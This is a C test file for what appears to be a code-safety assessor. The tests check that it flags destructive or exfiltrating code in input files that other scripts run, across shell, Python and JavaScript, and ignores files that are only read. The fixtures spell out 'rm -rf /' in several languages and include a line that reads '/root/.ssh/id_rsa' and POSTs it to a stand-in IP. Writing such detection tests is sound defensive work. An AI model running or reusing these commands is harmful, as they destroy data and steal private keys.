/* inputs.c - what becomes of input files: run by another file, only read, too much to be read. */
#include "assess/table.h"
#include "base/buf.h"
#include "base/cleanup.h"
#include "tap.h"
#include "words.h"

/* The same deed in each language; no name says which. */
#define PY_DEED "import os\nos.system('rm -rf /')\n"
#define SH_DEED "rm -rf /\n"
#define JS_DEED "require('child_process').execSync('rm -rf /')\n"
#define TABLE   "name,size\nrm -rf /,1\n"

/* READ: found in the input, in the language it is run in.  HELD: the code is said to run what nobody read. */
enum { READ = 1, HELD = 2, DATA = 0 };

static const struct { const char *name; int want, language; const char *code, *path, *input; } row[] = {
	{ "a shell runs it", READ, SH, "bash x", "x", SH_DEED },
	{ "by its path", READ, SH, "./lib/x", "lib/x", SH_DEED },
	{ "it is sourced", READ, SH, ". ./x", "x", SH_DEED },
	{ "by the longer word", READ, SH, "source x", "x", SH_DEED },
	{ "by its name in a loop", READ, SH, "for f in a x; do bash \"$f\"; done", "x", SH_DEED },
	{ "by a pattern", READ, SH, "for f in *; do bash \"$f\"; done", "x", SH_DEED },
	{ "under another name", READ, SH, "cp x y\nbash y", "x", SH_DEED },
	{ "by another interpreter", READ, SH, "python3 data.txt", "data.txt", PY_DEED },
	{ "by a third", READ, SH, "node data", "data", JS_DEED },
	{ "whatever its name says", READ, SH, "bash x.py", "x.py", SH_DEED },
	{ "from standard input", READ | HELD, SH, "sh < x", "x", SH_DEED },
	{ "through a pipe", READ | HELD, SH, "cat x | sh", "x", SH_DEED },
	{ "as words", READ | HELD, SH, "eval \"$(cat x)\"", "x", SH_DEED },
	{ "as a command line", READ | HELD, SH, "bash -c \"$(cat x)\"", "x", SH_DEED },
	{ "written to another file", READ | HELD, SH, "cat x > y\nbash y", "x", SH_DEED },
	{ "by an interpreter nobody reads for here", HELD, SH, "perl x", "x", "system('rm -rf /');\n" },
	{ "by a name nobody knows", HELD, SH, "bash \"$1\"", "x", SH_DEED },
	{ "it is only printed", DATA, SH, "cat x; grep a x | wc -l; sort < x", "x", SH_DEED },
	{ "its lines are read", DATA, SH, "while read -r a; do echo \"$a\"; done < x", "x", SH_DEED },
	{ "it is an argument of a program that is run", DATA, SH, "bash run.sh x", "x", SH_DEED },
	{ "it is copied", DATA, SH, "cp x y; cat y", "x", SH_DEED },

	{ "Python runs its text", READ | HELD, PY, "exec(open('data.txt').read())\n", "data.txt", PY_DEED },
	{ "compiled first", READ | HELD, PY, "with open('data.txt') as f:\n    s = f.read()\nexec(compile(s, 'x', 'exec'))\n", "data.txt", PY_DEED },
	{ "turned round", HELD, PY, "exec(open('data.txt').read()[::-1])\n", "data.txt", "#)'/ fr- mr'(metsys.so;so tropmi\n" },
	{ "from a part of it", HELD, PY, "import json\nexec(json.load(open('data.txt'))['code'])\n", "data.txt", "{}\n" },
	{ "from a file named at run time", READ | HELD, PY, "import sys\nexec(open(sys.argv[1]).read())\n", "data.txt", PY_DEED },
	{ "by its path in Python", READ, PY, "import runpy\nrunpy.run_path('data.txt')\n", "data.txt", PY_DEED },
	{ "by a path nobody knows", HELD, PY, "import runpy, sys\nrunpy.run_path(sys.argv[1])\n", "data.txt", PY_DEED },
	{ "by a loader", READ, PY, "from importlib.machinery import SourceFileLoader\nSourceFileLoader('a', 'data.txt').load_module()\n", "data.txt", PY_DEED },
	{ "by another Python", READ, PY, "import subprocess, sys\nsubprocess.run([sys.executable, 'data.txt'])\n", "data.txt", PY_DEED },
	{ "by a shell", READ, PY, "import os\nos.system('bash x')\n", "x", SH_DEED },
	{ "from a shell's standard input", HELD, PY, "import subprocess\nsubprocess.run('sh', stdin=open('x'))\n", "x", SH_DEED },
	{ "under another name in Python", READ, PY, "import runpy, shutil\nshutil.copy('data.txt', 'y')\nrunpy.run_path('y')\n", "data.txt", PY_DEED },
	{ "bytes", HELD, PY, "import runpy\nrunpy.run_path('data.txt')\n", "data.txt", NULL },
	{ "it is a table", DATA, PY, "import csv, subprocess\nfor r in csv.reader(open('x.csv')):\n    print(r)\nsubprocess.run(['ls'])\n", "x.csv", TABLE },
	{ "something else is run before", DATA, PY, "print(eval(input()))\nprint(open('x.csv').read())\n", "x.csv", TABLE },
	{ "a function is timed", DATA, PY, "import timeit\nt = open('x.csv').read()\ndef f(g):\n    timeit.timeit(g)\n", "x.csv", TABLE },

	{ "JavaScript requires it", READ, JS, "require('./data');\n", "data", JS_DEED },
	{ "with another ending", READ, JS, "require('./data.txt');\n", "data.txt", JS_DEED },
	{ "it is imported", READ, JS, "import x from './data';\n", "data", JS_DEED },
	{ "by a process of its own", READ, JS, "require('child_process').fork('data');\n", "data", JS_DEED },
	{ "JavaScript runs its text", READ | HELD, JS, "eval(require('fs').readFileSync('data', 'utf8'));\n", "data", JS_DEED },
	{ "JSON is required", DATA, JS, "require('./data.json');\n", "data.json", "{\"scripts\": {\"postinstall\": \"rm -rf /\"}}\n" },
	{ "its text is shown", DATA, JS, "console.log(require('fs').readFileSync('data', 'utf8'));\n", "data", JS_DEED },
	{ "something is done later", DATA, JS, "const t = require('fs').readFileSync('data');\nfunction f(g) { setTimeout(g, 10); }\n", "data", JS_DEED },
};

static const struct bawn_finding *finding(const struct bawn_assessment *a, const char *rule, const char *path)
{
	for (size_t i = 0; a != NULL && i < a->n_findings; i++) {
		const struct bawn_finding *f = &a->finding[i];
		if (strcmp(f->rule, rule) == 0 && (path == NULL ? f->path == NULL : f->path != NULL && strcmp(f->path, path) == 0))
			return f;
	}
	return NULL;
}

static bool inputs_found(const struct bawn_assessment *a)
{
	for (size_t i = 0; i < a->n_findings; i++)
		if (a->finding[i].path != NULL)
			return true;
	return false;
}

static void test_run(void)
{
	static const char bytes[] = "\0\1import os";
	for (size_t i = 0; i < BAWN_LEN(row); i++) {
		struct bawn_span input = row[i].input != NULL ? bawn_span(row[i].input) : (struct bawn_span){ bytes, sizeof bytes };
		struct bawn_assess_file f[2] = { { .language = row[i].language, .bytes = bawn_span(row[i].code) }, { .path = row[i].path, .language = -1, .bytes = input } };
		struct bawn_assessment *a = NULL;
		struct bawn_err err = { 0 };
		int r = bawn_assess(f, 2, NULL, &a, &err);
		bool good = r == 0 && ((row[i].want & READ) == 0 || (a->level == BAWN_LEVEL_BLOCKED && finding(a, "any/destroys-everything", row[i].path) != NULL)) &&
		            ((row[i].want & HELD) != 0) == (finding(a, "any/unread-program", NULL) != NULL) && (row[i].want != DATA || !inputs_found(a));
		if (!ok(good, "an input: %s", row[i].name))
			for (size_t k = 0; r == 0 && k < a->n_findings; k++)
				diag("  %s %s line %u", a->finding[k].rule, a->finding[k].path != NULL ? a->finding[k].path : "", a->finding[k].line);
		bawn_assessment_free(a);
	}
	struct bawn_assess_file chain[] = { { .language = SH, .bytes = bawn_span("bash a") }, { .path = "a", .language = -1, .bytes = bawn_span("python3 b\n") },
	                                    { .path = "b", .language = -1, .bytes = bawn_span(PY_DEED) }, { .path = "c", .language = -1, .bytes = bawn_span(SH_DEED) } };
	struct bawn_assessment *a = NULL;
	ok(bawn_assess(chain, BAWN_LEN(chain), NULL, &a, NULL) == 0 && finding(a, "any/destroys-everything", "b") != NULL && finding(a, "any/destroys-everything", "c") == NULL,
	   "an input that an input runs is read, one that nobody runs is not");
	bawn_assessment_free(a);
}

/* ---- too much to be read ---- */

#define SOME_WORK UINT64_C(8000000)

/* Quick to parse; what it puts together is more than SOME_WORK. */
static void much(struct bawn_buf *b, const char *first)
{
	bawn_buf_str(b, first);
	for (int i = 0; i < 2000; i++)
		bawn_buf_str(b, "x = 'y' * 100000\n");
}

static struct bawn_assessment *with_some_work(const struct bawn_assess_file *f, size_t n)
{
	struct bawn_tree_limit most = bawn_assess_limit;
	most.work = SOME_WORK;
	struct bawn_assessment *a = NULL;
	struct bawn_err err = { 0 };
	if (bawn_assess_with(&bawn_rules, f, n, NULL, &most, &a, &err) < 0)
		diag("%s", err.msg);
	return a;
}

static void test_much(void)
{
	bawn_auto_buf hog = BAWN_BUF(2u << 20), deed = BAWN_BUF(2u << 20), parts = BAWN_BUF(2u << 20);
	much(&hog, "");
	much(&deed, "import os, socket\nos.system('rm -rf /')\n");
	much(&parts, "import requests\nopen('/root/.ssh/id_rsa').read()\nrequests.post('http://198.51.100.7', data='x')\n");
	struct bawn_assess_file one = { .language = PY, .bytes = bawn_buf_span(&deed) };
	struct bawn_assessment *a = with_some_work(&one, 1);
	ok(a != NULL && a->unfinished != NULL && a->level == BAWN_LEVEL_BLOCKED && finding(a, "any/destroys-everything", NULL) != NULL &&
	   finding(a, "bawn/assessment-failed", NULL) != NULL, "what was found before the work was used up stays, and its level");
	bawn_assessment_free(a);
	one.bytes = bawn_buf_span(&parts);
	a = with_some_work(&one, 1);
	ok(a != NULL && a->unfinished != NULL && finding(a, "any/exfiltration", NULL) != NULL, "what it comes to together counts, too");
	bawn_assessment_free(a);

	struct bawn_assess_file last[] = { { .language = PY, .bytes = bawn_span("print(1)\n") }, { .path = "a.sh", .language = -1, .bytes = bawn_span(SH_DEED) },
	                                   { .path = "b.py", .language = -1, .bytes = bawn_buf_span(&hog) } };
	struct bawn_assess_file first[] = { { .language = PY, .bytes = bawn_span(PY_DEED) }, last[2], last[1] };
	a = with_some_work(last, BAWN_LEN(last));
	ok(a != NULL && a->level == BAWN_LEVEL_BLOCKED && finding(a, "any/destroys-everything", "a.sh") != NULL && finding(a, "bawn/assessment-failed", "b.py") != NULL,
	   "an input that is too much takes nothing from one read before");
	bawn_assessment_free(a);
	a = with_some_work(first, BAWN_LEN(first));
	ok(a != NULL && finding(a, "any/destroys-everything", "a.sh") != NULL && finding(a, "any/destroys-everything", NULL) != NULL &&
	   finding(a, "bawn/assessment-failed", "b.py") != NULL && finding(a, "bawn/assessment-failed", "a.sh") == NULL, "nor from one read after, nor from the code");
	bawn_assessment_free(a);
	struct bawn_assess_file small[] = { first[0], last[1] };
	a = with_some_work(small, BAWN_LEN(small));
	ok(a != NULL && a->unfinished == NULL && finding(a, "bawn/assessment-failed", NULL) == NULL, "with enough work nothing is given up");
	bawn_assessment_free(a);
}

int main(void)
{
	test_run();
	test_much();
	return done_testing();
}
